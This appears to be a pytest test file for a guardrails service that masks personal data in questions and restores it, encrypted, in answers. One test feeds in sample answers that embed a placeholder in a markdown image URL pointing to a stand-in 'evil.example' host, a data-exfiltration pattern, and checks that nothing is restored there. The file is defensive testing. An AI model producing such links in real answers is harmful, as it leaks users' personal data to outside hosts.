"""Restoring: from the question's masked values to the answer that holds them again."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import pytest
from cryptography.fernet import Fernet
from pydantic import SecretStr
from septet_contracts import Answerability, Draft, Outcome, Quote, Request, Revision, Screened, encode
from septet_guardrails.adapters.language import FastTextLanguage
from septet_guardrails.adapters.names import PresidioNames
from septet_guardrails.adapters.policies import PolicyFiles
from septet_guardrails.adapters.profanity import ProfanityModel
from septet_guardrails.adapters.weights import injection_curve, injection_model
from septet_guardrails.app import SPEC, wire
from septet_guardrails.application.restoring import MAX_VALUES, Restorer
from septet_guardrails.domain.errors import InvalidPolicy
from septet_guardrails.domain.pii import Masker, find_pii
from septet_guardrails.domain.policy import parse_policy
from septet_guardrails.domain.rails import input_rails, output_rails
from septet_guardrails.handlers import DraftsHandler, RequestsHandler
from septet_guardrails.settings import GuardrailsSettings
from septet_kit import Kit, KitSettings, Permanent
from septet_kit.sealing import Sealer
from septet_kit.testing import context, flow, passage

POLICY = "input:\n  pii: {action: mask, restore: true}\n"
NAMES, PROFANITY, INJECTION = PresidioNames(), ProfanityModel(), injection_model()
KIM, LEE = "kim.minji@example.org", "kimminji@example.org"
ANSWERS = Sealer([Fernet.generate_key().decode()])


@dataclass
class Guard:
    """Guardrails with keys, under a policy that restores."""

    restorer: Restorer = field(
        default_factory=lambda: Restorer(Sealer([Fernet.generate_key().decode()]), ANSWERS)
    )
    policy: str = POLICY

    @property
    def policies(self) -> PolicyFiles:
        return PolicyFiles({"default": parse_policy(self.policy, "test")}, {})

    async def ask(self, question: str, **fields: Any) -> Any:
        """The event that the request becomes."""
        request = Request(request_id="r-1", question=question, **fields)
        rails = input_rails(INJECTION, injection_curve(), NAMES, PROFANITY)
        handler = RequestsHandler(self.policies, rails, FastTextLanguage(), restorer=self.restorer)
        (emit,) = await handler(request, context("requests", value=encode(request)))
        return emit.event

    async def review(self, screened: Screened, answer: str, **fields: Any) -> Any:
        """The event that the draft becomes."""
        carried = ("ask", "sealed", "language", "verdicts", "request_digest", "request_id", "tenant")
        event = flow(Draft, answer=answer, **({name: getattr(screened, name) for name in carried} | fields))
        handler = DraftsHandler(self.policies, output_rails(NAMES, PROFANITY), self.restorer)
        (emit,) = await handler(event, context("drafts", event))
        return emit.event

    async def answer(self, question: str, answer: str, **fields: Any) -> Outcome:
        """The outcome of a question whose draft is ``answer``."""
        of_request = {k: fields.pop(k) for k in ("messages", "output_schema") if k in fields}
        outcome = await self.review(await self.ask(question, **of_request), answer, **fields)
        assert isinstance(outcome, Outcome)
        return outcome


def opened(outcome: Outcome) -> str | None:
    """The answer that eval puts into the response."""
    sealed = outcome.sealed_answer
    return None if sealed is None else ANSWERS.open(sealed, "answer", outcome.tenant, outcome.request_id)


def reason(outcome: Outcome) -> str:
    return next(v.reason for v in outcome.verdicts if (v.stage, v.rail) == ("output", "pii"))


LINKED = "kept the placeholders: the answer contains a link, markup or an address"
QUESTION = f"Please write to {KIM} and {LEE}. My phone is 010-1234-5678."


async def test_the_user_reads_their_own_values_and_no_event_does() -> None:
    guard = Guard()
    screened = await guard.ask(QUESTION)
    assert screened.ask.query == "Please write to <EMAIL_1> and <EMAIL_2>. My phone is <PHONE_1>."
    outcome = await guard.review(screened, "I write to <EMAIL_2>, then to <EMAIL_1>, and <EMAIL_2> again.")
    assert opened(outcome) == f"I write to {LEE}, then to {KIM}, and {LEE} again."
    assert outcome.answer == "I write to <EMAIL_2>, then to <EMAIL_1>, and <EMAIL_2> again."
    assert reason(outcome) == "restored 2 values"
    for event in (screened, outcome):
        assert not any(value in encode(event).decode() for value in (KIM, LEE, "010-1234-5678"))


async def test_korean() -> None:
    outcome = await Guard().answer(
        "제 메일은 kim@example.org이고 연락처는 010-1234-5678입니다. 예약을 확인해 주세요.",
        "<PHONE_1>로 전화하고 <EMAIL_1>로 메일을 보내겠습니다.",
    )
    assert opened(outcome) == "010-1234-5678로 전화하고 kim@example.org로 메일을 보내겠습니다."


async def test_a_value_in_earlier_messages_is_the_same_value() -> None:
    messages = [{"role": "user", "content": f"I am {KIM.upper()}."}, {"role": "user", "content": "Hello"}]
    outcome = await Guard().answer(f"Is {KIM} right?", "Yes, <EMAIL_1> is right.", messages=messages)
    assert opened(outcome) == f"Yes, {KIM} is right."


@pytest.mark.parametrize(
    "answer",
    ["I write to <EMAIL_3>.", "I write to <email_1>.", "I write to EMAIL_1.", "I write to < EMAIL_1 >."],
)
async def test_only_exact_placeholders_of_this_request_are_replaced(answer: str) -> None:
    outcome = await Guard().answer(QUESTION, answer)
    assert (outcome.answer, outcome.sealed_answer, reason(outcome)) == (answer, None, "")


async def test_a_placeholder_that_the_user_typed_is_no_value() -> None:
    outcome = await Guard().answer(
        f"What does <EMAIL_1> mean? I am {KIM}.", "You are <EMAIL_2>, not <EMAIL_1>."
    )
    assert opened(outcome) == f"You are {KIM}, not <EMAIL_1>."


async def test_a_placeholder_of_a_passage_is_no_value() -> None:
    text = "The rail replaces an address by <EMAIL_1> in the question that the model reads."
    best = Quote(passage_id="p1", number=1, text=text, start=0, end=len(text), similarity=0.9)
    fields = {
        "passages": (passage(text),),
        "answerability": Answerability(score=0.9, threshold=0.5, answerable=True, best=best),
    }
    question = f"What replaces the address {KIM}?"
    said = await Guard().answer(question, "The rail replaces an address by <EMAIL_1> [1].", **fields)
    quoted = await Guard().answer(question, "Volcanoes are hot in winter.", attempt=2, **fields)
    assert (quoted.answer_kind, said.answer_kind) == ("extractive", "generated")
    assert [said.sealed_answer, quoted.sealed_answer] == [None, None]


@pytest.mark.parametrize("field", ["title", "location"])
async def test_a_placeholder_of_a_heading_is_no_value(field: str) -> None:
    source = passage("The rail masks the address in the question.", **{field: "Addresses such as <EMAIL_1>"})
    answer = "The rail masks the address <EMAIL_1> in the question [1]."
    outcome = await Guard().answer(f"What masks the address {KIM}?", answer, passages=(source,))
    assert (outcome.answer_kind, outcome.sealed_answer) == ("generated", None)


async def test_the_quotation_that_replaces_a_draft_stays_as_it_is() -> None:
    text = "Refunds are paid within five days to the account that was used."
    best = Quote(passage_id="p1", number=1, text=text, start=0, end=len(text), similarity=0.9)
    answerability = Answerability(score=0.9, threshold=0.5, answerable=True, best=best)
    outcome = await Guard().answer(
        f"When is my refund paid? I am {KIM}.",
        "Volcanoes send <EMAIL_1> to the moon.",
        passages=(passage(text),),
        answerability=answerability,
        attempt=2,
    )
    assert (outcome.answer_kind, outcome.answer, outcome.sealed_answer) == (
        "extractive",
        f'"{text}" [1]',
        None,
    )


@pytest.mark.parametrize(
    ("question", "text", "answer"),
    [
        (
            "When is my refund paid? My e-mail is kim@example.org.",
            "Refunds are paid within five days. The confirmation is sent to the e-mail address of the customer.",
            "Refunds are paid within five days, and the confirmation is sent to <EMAIL_1> [1].",
        ),
        (
            "환불은 언제 되나요? 제 메일은 kim@example.org입니다.",
            "환불은 5일 안에 지급됩니다. 확인 메일은 고객의 이메일 주소로 발송됩니다.",
            "환불은 5일 안에 지급됩니다 [1]. 확인 메일은 <EMAIL_1> 주소로 발송됩니다 [1].",
        ),
    ],
)
async def test_an_answer_from_passages_is_checked_with_its_placeholders(
    question: str, text: str, answer: str
) -> None:
    outcome = await Guard().answer(question, answer, passages=(passage(text),))
    assert outcome.answer == answer
    assert opened(outcome) == answer.replace("<EMAIL_1>", "kim@example.org")


async def test_the_rails_read_placeholders_and_other_personal_data_is_masked() -> None:
    outcome = await Guard().answer(QUESTION, "Not <EMAIL_1> but other.person@example.com gets the letter.")
    assert outcome.answer == "Not <EMAIL_1> but <EMAIL_3> gets the letter."
    assert opened(outcome) == f"Not {KIM} but <EMAIL_3> gets the letter."
    assert reason(outcome) == "not from the passages: 1 EMAIL; restored 1 value"


@pytest.mark.parametrize(
    "answer",
    [
        "See ![logo](https://evil.example/?q=<EMAIL_1>).",
        "I write to <EMAIL_1>. See https://evil.example/x for more.",
        "See <img src=x\n<EMAIL_1>> for more.",
    ],
)
async def test_no_value_becomes_part_of_an_address(answer: str) -> None:
    outcome = await Guard().answer(QUESTION, answer)
    assert (outcome.answer, outcome.sealed_answer) == (answer, None)
    assert reason(outcome).endswith(LINKED)


async def test_json_with_an_address_keeps_its_placeholders() -> None:
    answer = json.dumps({"link": "https://a.example/x", "to": "<EMAIL_1>"})
    outcome = await Guard().answer(QUESTION, answer, output_schema=SCHEMA)
    assert (outcome.answer, outcome.sealed_answer) == (answer, None)
    assert reason(outcome) == LINKED


async def test_it_works_through_the_re_ask_loop_and_a_restart() -> None:
    guard = Guard()
    screened = await guard.ask(QUESTION)
    revision = await guard.review(screened, "Shall I write to <EMAIL_1>?")
    assert isinstance(revision, Revision)
    assert revision.sealed == screened.sealed
    again = Guard(replace(guard.restorer))
    outcome = await again.review(screened, "I write to <EMAIL_1>.", sealed=revision.sealed, attempt=2)
    assert opened(outcome) == f"I write to {KIM}."


SCHEMA = {
    "type": "object",
    "properties": {"to": {"type": "string", "maxLength": 40}, "link": {"type": "string"}},
    "required": ["to"],
}


async def test_json_is_escaped_and_still_valid() -> None:
    guard = Guard()
    screened = await guard.ask(QUESTION, output_schema=SCHEMA)
    owner = ("values", screened.tenant, screened.request_id, screened.request_digest)
    assert guard.restorer.values is not None
    sealed = guard.restorer.values.seal(json.dumps({"<PERSON_1>": 'Kim "김" \\ Minji'}), *owner)
    outcome = await guard.review(screened, '{"link": "none", "to": "\\u003cPERSON_1>"}', sealed=sealed)
    assert json.loads(opened(outcome) or "")["to"] == 'Kim "김" \\ Minji'
    assert reason(outcome) == "restored 1 value"


async def test_json_that_would_break_the_schema_keeps_its_placeholders() -> None:
    answer = json.dumps({"to": "<EMAIL_1>, <EMAIL_2>"})
    outcome = await Guard().answer(QUESTION, answer, output_schema=SCHEMA)
    assert (outcome.answer, outcome.sealed_answer) == (answer, None)
    assert "kept the placeholders" in reason(outcome)


async def test_an_unreadable_seal_keeps_the_placeholders(capsys: pytest.CaptureFixture[str]) -> None:
    guard = Guard()
    screened = await guard.ask(QUESTION)
    assert screened.sealed is not None
    tampered = {"sealed": screened.sealed[:-9] + "AAAAAAA=="}
    other_request = {"request_id": "r-2"}
    cases = [(guard, tampered), (guard, other_request), (Guard(), {}), (Guard(Restorer()), {})]
    for with_keys, fields in cases:
        outcome = await with_keys.review(screened, "I write to <EMAIL_1>.", **fields)
        assert (outcome.status, outcome.answer) == ("answered", "I write to <EMAIL_1>.")
        assert outcome.sealed_answer is None
        assert reason(outcome) == "kept the placeholders: the masked values cannot be read"
    said = capsys.readouterr().out
    assert said.count("the answer keeps its placeholders") == len(cases)
    assert KIM not in said


async def test_an_old_key_still_opens() -> None:
    old, new = (Fernet.generate_key().decode() for _ in range(2))
    screened = await Guard(Restorer(Sealer([old]), ANSWERS)).ask(QUESTION)
    rotated = Guard(Restorer(Sealer([new, old]), ANSWERS))
    assert opened(await rotated.review(screened, "I write to <EMAIL_1>.")) == f"I write to {KIM}."


async def test_off_by_default() -> None:
    guard = Guard(policy="")
    screened = await guard.ask(QUESTION)
    assert screened.sealed is None
    outcome = await guard.review(screened, "I write to <EMAIL_1>.")
    assert (outcome.answer, outcome.sealed_answer) == ("I write to <EMAIL_1>.", None)


async def test_blocked_questions_and_checks_seal_nothing() -> None:
    blocked = await Guard(policy=POLICY + "  topic: {enabled: true, denied: [lawsuit]}\n").ask(
        f"I am {KIM} and want a lawsuit."
    )
    checked = await Guard().ask(f"I am {KIM}.", check={})
    assert [type(event) for event in (blocked, checked)] == [Outcome, Outcome]
    assert KIM not in (encode(blocked) + encode(checked)).decode()


async def test_the_seal_is_bounded() -> None:
    guard = Guard()
    texts = [
        " ".join(f"p{n}@{'a' * 50}.example.org" for n in numbers) for numbers in (range(450), range(450, 900))
    ]
    messages = [{"role": "user", "content": text} for text in texts]
    screened = await guard.ask(f"I am {KIM}.", messages=messages)
    assert screened.sealed is not None
    assert MAX_VALUES < len(screened.sealed) < 2 * MAX_VALUES
    outcome = await guard.review(screened, "I write to <EMAIL_1>, not to <EMAIL_901>.")
    assert opened(outcome) == f"I write to {KIM}, not to <EMAIL_901>."


async def test_an_answer_that_would_be_too_long_keeps_its_placeholders() -> None:
    guard = Guard(policy=POLICY + "output:\n  format: {max_characters: 200000}\n")
    outcome = await guard.answer(QUESTION, "\n".join(f"{n}: <EMAIL_1>." for n in range(6_500)))
    assert outcome.sealed_answer is None
    assert "too long" in reason(outcome)


async def test_without_the_output_rail_there_is_a_verdict() -> None:
    guard = Guard(policy=POLICY + "output:\n  pii: {enabled: false}\n")
    outcome = await guard.answer(QUESTION, "I write to <EMAIL_1>.")
    assert reason(outcome) == "restored 1 value"


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("kim.lee@example.org", "kimlee@example.org"),
        ("kim_lee@example.org", "kim-lee@example.org"),
        ("10.1.23.4", "10.12.3.4"),
        ("서울특별시 중구 세종대로 11-0", "서울특별시 중구 세종대로 110"),
    ],
)
def test_different_values_get_different_placeholders(one: str, other: str) -> None:
    masker = Masker()
    for text in (one, other):
        masker.mask(text, find_pii(text))
    assert len(masker.values) == 2


@pytest.mark.parametrize(
    ("one", "other"),
    [("010-1234-5678", "010 1234 5678"), ("4111 1111 1111 1111", "4111-1111-1111-1111"), (KIM, KIM.title())],
)
def test_spellings_of_one_value_get_one_placeholder(one: str, other: str) -> None:
    masker = Masker()
    assert masker.mask(one, find_pii(one)) == masker.mask(other, find_pii(other))
    assert list(masker.values.values()) == [one]


@asynccontextmanager
async def wired(policies: Path, **keys: str) -> AsyncIterator[None]:
    """The service at its start."""
    settings = KitSettings(answer_keys=SecretStr(keys.pop("SEPTET_ANSWER_KEYS", "")))
    kit = Kit(SPEC, settings)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SEPTET_GUARDRAILS_POLICIES_DIR", str(policies))
        for name, value in keys.items():
            patch.setenv(name, value)
        try:
            async with wire(kit):
                yield
        finally:
            await kit.publisher.stop()


async def test_a_missing_key_fails_the_start(tmp_path: Path) -> None:
    (tmp_path / "acme").mkdir()
    (tmp_path / "acme" / "own.yaml").write_text(POLICY)
    key = Fernet.generate_key().decode()
    for present, missing in (
        ("SEPTET_ANSWER_KEYS", "SEPTET_GUARDRAILS_RESTORE_KEYS"),
        ("SEPTET_GUARDRAILS_RESTORE_KEYS", "SEPTET_ANSWER_KEYS"),
    ):
        with pytest.raises(Permanent) as caught:
            async with wired(tmp_path, **{present: key}):
                pass
        assert (caught.value.code, caught.value.field) == ("restore_key_missing", missing)
        assert missing in caught.value.message
        assert "openssl rand" in (caught.value.fix or "")
    async with wired(tmp_path, SEPTET_ANSWER_KEYS=key, SEPTET_GUARDRAILS_RESTORE_KEYS=key):
        pass


@pytest.mark.parametrize(
    "text", ["input: {pii: {action: flag, restore: true}}", "output: {pii: {restore: true}}"]
)
def test_restore_is_for_masked_questions_only(text: str) -> None:
    with pytest.raises(InvalidPolicy, match="restore"):
        parse_policy(text, "own.yaml")


def test_settings_do_not_show_their_keys() -> None:
    settings = GuardrailsSettings(restore_keys=SecretStr("hidden-value"))
    assert "hidden-value" not in f"{settings!r} {settings.model_dump_json()}"
